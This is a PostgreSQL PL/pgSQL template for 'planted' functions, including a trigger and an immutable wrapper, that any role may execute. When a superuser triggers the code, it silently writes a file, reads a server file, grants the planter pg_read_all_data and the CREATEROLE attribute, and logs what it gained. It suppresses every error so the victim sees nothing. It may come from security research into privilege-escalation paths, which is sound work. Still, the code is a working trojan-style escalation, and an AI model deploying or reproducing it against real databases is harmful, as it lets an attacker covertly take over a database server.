-- What every planted object calls: it says in the server's log under whom it runs, and with a superuser's power tries its gain.
-- As the planter, {me}; nothing of it raises an error, so nothing breaks visibly.
create function public.planted_gain(kind text) returns boolean language plpgsql set search_path = pg_catalog as $$
declare
    role text := current_setting('role');
    power boolean;
    gains text[] := '{{}}';
begin
    -- Once in a session for each kind.
    if current_setting('planted.k' || md5(kind), true) is not null then
        return true;
    end if;
    perform set_config('planted.k' || md5(kind), '1', false);
    power := (select rolsuper from pg_roles where rolname = current_user);
    if not power then
        begin  -- a superuser who became somebody else can be himself again, unless PostgreSQL forbids it
            perform set_config('role', 'none', true);
            power := (select rolsuper from pg_roles where rolname = current_user);
        exception when others then
            null;
        end;
    end if;
    if power then
        begin
            copy (select 1) to '/var/tmp/planted-file';
            gains := gains || 'a file'::text;
        exception when others then
            null;
        end;
        begin
            perform pg_read_binary_file('global/pg_filenode.map');
            gains := gains || 'another database''s file'::text;
        exception when others then
            null;
        end;
        begin
            grant pg_read_all_data to {me};
            gains := gains || 'a membership'::text;
        exception when others then
            null;
        end;
        begin
            alter role {me} createrole;
            gains := gains || 'an attribute'::text;
        exception when others then
            null;
        end;
    end if;
    begin
        if exists (select from pg_stat_activity where datname <> current_database() and usename <> current_user
                                                  and query <> '<insufficient privilege>') then
            gains := gains || 'another database''s queries'::text;
        end if;
    exception when others then
        null;
    end;
    begin
        perform set_config('role', role, true);
    exception when others then
        null;
    end;
    raise log 'planted: %', json_build_object(
        'at', extract(epoch from clock_timestamp()), 'kind', kind, 'planter', '{me}', 'database', current_database(), 'session', session_user, 'current', current_user,
        'power', power, 'gains', gains, 'program', current_setting('application_name'),
        'backend', (select backend_type from pg_stat_get_activity(pg_backend_pid())), 'query', left(current_query(), 300));
    return true;
exception when others then
    return true;
end
$$;
-- For whatever must be immutable: the label is the planter's word. A body that depends on the other comes through a dump in order.
create function public.planted_is(kind text) returns boolean language sql immutable
    begin atomic select public.planted_gain(kind); end;
create function public.planted_trigger() returns trigger language plpgsql as $$
begin
    perform public.planted_gain('trigger ' operator(pg_catalog.||) tg_name);
    return case tg_op when 'DELETE' then old else new end;
end
$$;
grant execute on function public.planted_gain, public.planted_is, public.planted_trigger to public;
